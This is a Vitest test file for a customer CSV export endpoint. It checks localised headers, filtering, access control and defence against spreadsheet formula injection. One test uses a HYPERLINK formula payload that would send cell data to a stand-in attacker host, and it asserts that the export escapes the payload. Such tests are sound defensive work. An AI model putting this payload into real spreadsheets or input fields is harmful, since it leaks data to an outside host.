import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from './helpers/app.ts';

describe('GET /exports/customers.csv', () => {
  let t: TestApp;
  let base: string;
  beforeAll(async () => {
    t = await startTestApp();
    base = `http://127.0.0.1:${await t.app.listen(0, '127.0.0.1')}`;
  });
  afterAll(() => t?.close());

  const get = async (path: string, headers: Record<string, string> = {}) => fetch(`${base}${path}`, { headers });

  it('streams every live customer with a Chinese header for the owner', async () => {
    const res = await get('/exports/customers.csv', { authorization: `Bearer ${await t.token('OWNER')}` });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/text\/csv/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // BOM, so Excel reads UTF-8
    const rows: string[][] = parse(new TextDecoder().decode(bytes));
    expect(rows[0]!.slice(0, 3)).toEqual(['顾客编号', '姓名', '手机号']);
    const total = await t.as('OWNER').ok(`{ customers(first: 1) { totalCount } }`);
    expect(rows.length - 1).toBe(total.customers.totalCount);
    expect(new Set(rows.slice(1).map((r) => r[0])).size).toBe(rows.length - 1);
  });

  it('applies the same filters as the search', async () => {
    const headers = { authorization: `Bearer ${await t.token('MANAGER')}`, 'accept-language': 'en' };
    const rows: string[][] = parse(await (await get('/exports/customers.csv?isMember=true', headers)).text());
    expect(rows[0]![1]).toBe('Name');
    const members = await t.as('OWNER').ok(`{ customers(first: 1, filter: { isMember: true }) { totalCount } }`);
    expect(rows.length - 1).toBe(members.customers.totalCount);
    expect(rows.slice(1).every((r) => r[8] !== '')).toBe(true);
  });

  it('writes nothing a spreadsheet would run, keeps codes as text, localises values, re-imports as is', async () => {
    // A cashier (or a POS key) can create a customer with any name: the owner's Excel must not run it.
    const name = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
    const created = await t.as('CASHIER').ok(
      `mutation($input: CreateCustomerInput!) { createCustomer(input: $input) { ... on Customer { id phone }
           ... on UserError { message } } }`,
      { input: { name, phone: '13012345678', gender: 'FEMALE', tags: ['-折扣', '@团购'] } },
    );
    const id = created.createCustomer.id as string;
    expect(id).toBeTruthy();
    const owner = `Bearer ${await t.token('OWNER')}`;
    const file = new Uint8Array(await (await get('/exports/customers.csv', { authorization: owner })).arrayBuffer());
    const rows: string[][] = parse(new TextDecoder().decode(file), { bom: true });
    const header = rows[0]!;
    const row = rows.find((r) => r[1]?.includes('HYPERLINK'))!;
    const cell = (h: string) => row[header.indexOf(h)];
    expect(cell('姓名')).toBe(`'${name}`);
    expect(cell('标签')).toBe(`'-折扣|@团购`);
    expect(cell('手机号')).toBe('="13012345678"');
    expect(cell('性别')).toBe('女');
    expect(cell('来源渠道')).not.toMatch(/^[A-Z_]+$/);
    for (const r of rows.slice(1))
      for (const value of r) expect(/^[=+\-@\t\r]/.test(value) && !/^="[^"]*"$/.test(value), value).toBe(false);

    const res = await fetch(`${base}/imports/customers`, {
      method: 'POST',
      headers: { authorization: owner, 'content-type': 'text/csv' },
      body: file,
    });
    expect(await res.json()).toMatchObject({ created: 0, updated: 0, errors: [] });
    const after = await t.as('OWNER').ok(`query($id: ID!) { customer(id: $id) { name phone gender tags } }`, { id });
    expect(after.customer).toEqual({ name, phone: '13012345678', gender: 'FEMALE', tags: ['-折扣', '@团购'] });
  });

  it('is refused to cashiers and to callers without credentials', async () => {
    const cashier = await get('/exports/customers.csv', { authorization: `Bearer ${await t.token('CASHIER')}` });
    expect(cashier.status).toBe(403);
    expect((await cashier.json()).errors[0]).toEqual({
      message: '当前账号无权执行此操作',
      extensions: { code: 'FORBIDDEN' },
    });
    const pos = await get('/exports/customers.csv', { 'x-api-key': t.posKey });
    expect(pos.status).toBe(403);
    expect((await get('/exports/customers.csv')).status).toBe(401);
  });
});
